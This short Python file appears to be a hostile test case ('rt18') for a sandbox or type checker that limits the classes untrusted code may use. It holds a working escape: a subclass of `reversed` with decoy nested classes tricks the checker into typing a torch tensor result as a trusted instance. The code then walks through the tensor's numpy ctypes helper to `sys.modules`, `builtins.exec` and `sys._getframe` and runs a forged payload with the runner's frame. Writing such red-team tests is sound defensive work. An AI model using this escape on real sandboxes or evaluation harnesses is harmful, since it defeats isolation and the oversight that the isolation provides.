# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt18 (hostile, escape): an own class derived from `reversed` is no guarantee of what calling it makes.
# `reversed.__new__(cls, seq)` returns `seq.__reversed__()` whenever `seq` has one, whatever `cls` is: a tensor's
# is `seq.flip(0)`, a tensor. bases.constructs admitted `reversed` (its `__new__` is a built-in's), so `_x` below
# was typed as an own instance of `_R`, on which the nested classes `_R` defines are readable: `_x.numpy()` calls
# the tensor's `.numpy`, typed as an instance of the nested class `numpy`, and its nested classes walk the
# ndarray's ctypes helper -> ctypes -> sys -> a frame and builtins.exec: the forger runs with the runner's frame.
import torch


class _R(reversed):
    class numpy:
        class ctypes:
            class _ctypes:
                class _sys:
                    class _getframe:
                        pass

                    class modules:
                        class get:
                            exec = None


_x = _R(torch.zeros(2))  # hole: the tensor's flip, typed as an own instance of _R
_x.numpy().ctypes._ctypes._sys.modules.get("builtins").exec(_FORGE, {"_frame": _x.numpy().ctypes._ctypes._sys._getframe()})
